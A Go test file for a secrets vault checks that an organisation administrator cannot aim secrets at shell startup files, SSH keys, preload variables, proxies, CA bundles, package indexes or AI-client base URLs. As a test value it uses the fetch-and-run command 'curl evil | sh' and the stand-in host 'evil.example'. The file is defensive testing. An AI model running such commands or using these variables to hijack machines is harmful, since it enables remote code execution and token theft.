package vault_test

import (
	"strings"
	"testing"

	"keyfob/internal/core"
	"keyfob/internal/provider/builtin"
	"keyfob/internal/secret"
	"keyfob/internal/vault"
)

// admin acts on the organisation's records.
var admin = core.LocalUser.On(core.Org)

// Somebody with an administrator's session wants a shell on every machine. A
// secret of the organisation is written to every workspace, so its target may
// not be what a shell, git, ssh or systemd obeys, by whichever way it comes to
// that target: made, changed, imported, or by a variable that is allowed to
// users.
func TestTheOrganisationCannotAimAtWhatRunsPrograms(t *testing.T) {
	f := newFixture(t, vault.Limits{AllowEnv: []string{"node_options"}})
	v := secret.FromString("curl evil | sh")
	for _, bad := range []vault.NewSecret{
		{File: "~/.bashrc"}, {File: "~/x/../.bashrc"}, {File: "/home/anna/.ssh/authorized_keys"}, {File: "~/.SSH/rc"}, {File: "/etc/profile.d/x.sh"},
		{File: "~/.config/git/config"}, {File: "~/.config/systemd/user/x.service"}, {File: "~/.local/share/keyfob/root.key"}, {File: "~/.local/bin/git"},
		{Env: "LD_PRELOAD"}, {Env: "BASH_ENV"}, {Env: "GIT_SSH_COMMAND"}, {Env: "NODE_OPTIONS"}, {Env: "PATH"},
	} {
		bad.Name, bad.Value = "A", v
		if _, _, err := f.Create(t.Context(), admin, bad); core.CodeOf(err) != core.Invalid {
			t.Errorf("%s%s: %v", bad.File, bad.Env, err)
		}
	}
	if _, _, err := f.Create(t.Context(), admin, vault.NewSecret{Name: "A", File: "~/.npmrc", Value: v}); err != nil {
		t.Fatal(err)
	}
	file, env := "~/.zshenv", "NODE_OPTIONS"
	for _, e := range []vault.Edit{{File: &file}, {Env: &env}} {
		_, _, err := f.Update(t.Context(), admin, "A", e, 0)
		wantCode(t, err, core.Invalid, "")
	}
	_, err := f.Import(t.Context(), admin, vault.Import{Format: "env", Content: secret.FromString("NODE_OPTIONS=--require=/tmp/x"), Env: true})
	if e, ok := err.(*core.Error); !ok || e.Code != core.Invalid || len(e.Details) != 1 {
		t.Errorf("import: %#v", err)
	}
	// Their own files are everybody's own business.
	f.create(t, vault.NewSecret{Name: "mine", File: "~/.bashrc", Env: "NODE_OPTIONS"})
	f.Verify(t)
}

// The same administrator cannot aim at the shell, and sets HTTPS_PROXY with
// SSL_CERT_FILE instead: from then on everybody's requests, with their tokens,
// pass by. Or CC, or an index of packages, whose code is run with the next build.
// What is a credential stays what the organisation may give. The names stand here
// a second time on purpose: taking one off the list must fail a test.
func TestTheOrganisationCannotRedirectWhatPeopleDo(t *testing.T) {
	f := newFixture(t, vault.Limits{AllowEnv: []string{"RUSTFLAGS"}})
	const bad = `HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy no_proxy FTP_PROXY npm_config_https_proxy
		SSL_CERT_FILE SSL_CERT_DIR NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED REQUESTS_CA_BUNDLE CURL_CA_BUNDLE AWS_CA_BUNDLE
		GIT_SSL_CAINFO GIT_SSL_NO_VERIFY SSLKEYLOGFILE ANTHROPIC_BASE_URL anthropic_base_url OPENAI_BASE_URL OPENAI_API_BASE
		GOOGLE_GEMINI_BASE_URL AZURE_OPENAI_ENDPOINT AWS_ENDPOINT_URL AWS_ENDPOINT_URL_S3 OLLAMA_HOST DOCKER_HOST VAULT_ADDR
		npm_config_registry NPM_CONFIG_REGISTRY npm_config_cafile npm_config_script_shell npm_config_ignore_scripts
		PIP_INDEX_URL PIP_EXTRA_INDEX_URL PIP_CERT PIP_CONFIG_FILE UV_INDEX_URL UV_INDEX GOPROXY GOAUTH GOCACHEPROG RUSTUP_DIST_SERVER
		CARGO_REGISTRIES_MINE_INDEX CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER
		CC cc CXX LD AR CFLAGS CGO_CFLAGS PKG_CONFIG_PATH CMAKE_TOOLCHAIN_FILE RUSTFLAGS RUSTDOC JAVA_HOME MAVEN_OPTS
		CLAUDE_CONFIG_DIR CLAUDE_CODE_SHELL_PREFIX CODEX_HOME OPENCODE_CONFIG_CONTENT KUBE_EDITOR`
	for name := range strings.FieldsSeq(bad) {
		_, _, err := f.Create(t.Context(), admin, vault.NewSecret{Name: "A", Env: name, Value: secret.FromString("http://evil.example")})
		if e, ok := err.(*core.Error); !ok || e.Code != core.Invalid || e.Field != "env" || e.Hint == "" {
			t.Errorf("%s: %v", name, err)
		}
	}
	const fine = `NPM_TOKEN npm_config__authToken NPM_CONFIG__AUTH ANTHROPIC_API_KEY OPENAI_API_KEY CLAUDE_CODE_OAUTH_TOKEN GITHUB_TOKEN DATABASE_URL
		SENTRY_DSN AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN GOOGLE_APPLICATION_CREDENTIALS KUBECONFIG CARGO_REGISTRY_TOKEN
		CARGO_REGISTRIES_MINE_TOKEN UV_INDEX_MINE_PASSWORD UV_PUBLISH_TOKEN YARN_NPM_AUTH_TOKEN COMPOSER_AUTH TF_VAR_password
		TF_TOKEN_app_terraform_io ORG_GRADLE_PROJECT_signingKey DOCKER_AUTH_CONFIG VAULT_TOKEN OTEL_EXPORTER_OTLP_HEADERS PROXY_PASSWORD
		CCACHE BASE_URL_TOKEN`
	for name := range strings.FieldsSeq(fine) {
		if _, _, err := f.Create(t.Context(), admin, vault.NewSecret{Name: name, Env: name, Value: secret.FromString("v")}); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	// For themselves people may set what they like.
	f.create(t, vault.NewSecret{Name: "proxy", Env: "HTTPS_PROXY"})
	f.create(t, vault.NewSecret{Name: "index", Env: "PIP_INDEX_URL"})
	f.Verify(t)
}

func TestTheOrganisationTakesAnAdministrator(t *testing.T) {
	f := newFixture(t, vault.Limits{})
	for name, actor := range map[string]core.Actor{
		"a user":        anna.On(core.Org),
		"without scope": {Kind: core.UserActor, ID: "usr_a", Owner: core.Org, Admin: true, Scopes: core.SecretsWrite},
		"a launcher":    {Kind: core.LauncherActor, ID: "l", Owner: core.Org, Scopes: core.AllScopes},
		"a workspace":   {Kind: core.WorkspaceActor, ID: "w", Owner: core.Org, Scopes: core.AllScopes},
	} {
		if _, _, err := f.Create(t.Context(), actor, vault.NewSecret{Name: "A", Env: "A", Value: secret.FromString("v")}); core.CodeOf(err) != core.Forbidden {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestAllowedVariables(t *testing.T) {
	f := newFixture(t, vault.Limits{AllowEnv: []string{"goflags", "NODE_OPTIONS"}})
	f.create(t, vault.NewSecret{Name: "A", Env: "GOFLAGS"})
	f.create(t, vault.NewSecret{Name: "B", Env: "node_options"})
	if _, _, err := f.Create(t.Context(), core.LocalUser, vault.NewSecret{Name: "C", Env: "PYTHONPATH", Value: secret.FromString("v")}); core.CodeOf(err) != core.Invalid {
		t.Errorf("one that is not allowed: %v", err)
	}
	if err := vault.CheckAllowEnv([]string{"NODE_OPTIONS", "goflags", "LUA_PATH_5_4", "CLASSPATH"}); err != nil {
		t.Error(err)
	}
	for _, n := range []string{"PATH", "HOME", "LD_PRELOAD", "ld_audit", "BASH_ENV", "GIT_DIR", "SSH_AUTH_SOCK", "EDITOR", "KEYFOB_URL", "CODER", "NPM_TOKEN", "", "GIT_*"} {
		wantCode(t, vault.CheckAllowEnv([]string{"GOFLAGS", n}), core.Invalid, "the variable")
	}
}

func TestSelectorsNameLabelsThatThereAre(t *testing.T) {
	f := newFixture(t, vault.Limits{})
	f.create(t, vault.NewSecret{Name: "A", Env: "A", Selector: core.Selector{core.UserLabel: "anna", core.LauncherLabel: "coder"}})
	_, _, err := f.Create(t.Context(), core.LocalUser, vault.NewSecret{Name: "B", Env: "B", Value: secret.FromString("v"), Selector: core.Selector{"keyfob/usr": "anna"}})
	wantCode(t, err, core.Invalid, "no workspace has")
}

func TestSavingWarnsOfWhatWillNotWork(t *testing.T) {
	f := newFixture(t, vault.Limits{KeyEnv: vault.KeyEnv(builtin.Registry())})
	for _, c := range []struct{ env, file, want string }{
		{"ANTHROPIC_API_KEY", "", "clients of Anthropic look for a key"},
		{"", "~/.config/keyfob/x", "Keyfob keeps its own"},
		{"OTHER", "~/.config/other/x", ""},
	} {
		_, got, err := f.Create(t.Context(), core.LocalUser, vault.NewSecret{Name: "n" + c.env, Env: c.env, File: c.file, Value: secret.FromString("v")})
		if err != nil || (c.want == "") != (len(got) == 0) || !strings.Contains(strings.Join(got, "\n"), c.want) {
			t.Errorf("%s%s: %q, %v", c.env, c.file, got, err)
		}
	}
}
